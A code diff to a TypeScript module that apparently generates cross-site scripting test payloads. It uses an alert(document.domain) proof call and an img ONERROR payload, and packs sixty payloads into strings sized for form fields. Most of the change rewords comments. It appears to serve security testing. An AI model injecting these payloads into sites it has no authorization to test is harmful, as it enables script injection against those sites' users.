@@ -1,4 +1,6 @@
-/** What a script in a text could look like: tags, attributes, addresses, and ways out of each place that a text stands in. */
+/**
+ * Script payloads: tags, attributes, URLs, and ways to break out of each context that shows text.
+ */
 const CALL = "alert(document.domain)";
 
 const tags = [
@@ -67,21 +69,28 @@ const others = [
 	`<img src="x" ONERROR=${CALL} a='`,
 ];
 
-/** Sixty of them. */
+/** Sixty payloads. */
 export const PAYLOADS: readonly string[] = [...opened, ...brokenOut, ...attributes, ...addresses, ...code, ...written, ...others];
 
 const inText = PAYLOADS.filter((payload) => !addresses.includes(payload));
 const part = Math.ceil(inText.length / addresses.length);
 
 /**
- * Payloads in one text, which an address begins, since it acts at the beginning only. Any other acts in the middle as well: what stands
- * before it is without effect in that place, or is found itself. An opened comment stands last, since it hides what comes after it.
+ * Payloads in one text. It begins with a URL payload, since those act only at the beginning. All
+ * others act in the middle as well: what comes before them has no effect there, or is detected
+ * itself. Payloads that open a comment come last, since they hide what follows.
  */
 const joined = (address: string, others: readonly string[]): string =>
 	[address, ...others.filter((payload) => !payload.startsWith("<!--")), ...others.filter((payload) => payload.startsWith("<!--"))].join(" ");
 
-/** Texts with a part of the payloads each, short enough for most fields of forms; all of them hold all sixty. */
+/**
+ * Texts with a part of the payloads each, short enough for most form fields. Together they hold all
+ * sixty.
+ */
 export const PARTS: readonly string[] = addresses.map((address, i) => joined(address, inText.slice(i * part, (i + 1) * part)));
 
-/** Texts that begin differently, for what shows the beginning of a text only; all of them hold every payload that acts in the middle. */
+/**
+ * Texts with different beginnings, for places that show only the beginning. Each holds every
+ * payload that acts in the middle.
+ */
 export const WHOLES: readonly string[] = addresses.map((address, i) => joined(address, [...inText.slice(i * part), ...inText.slice(0, i * part)]));
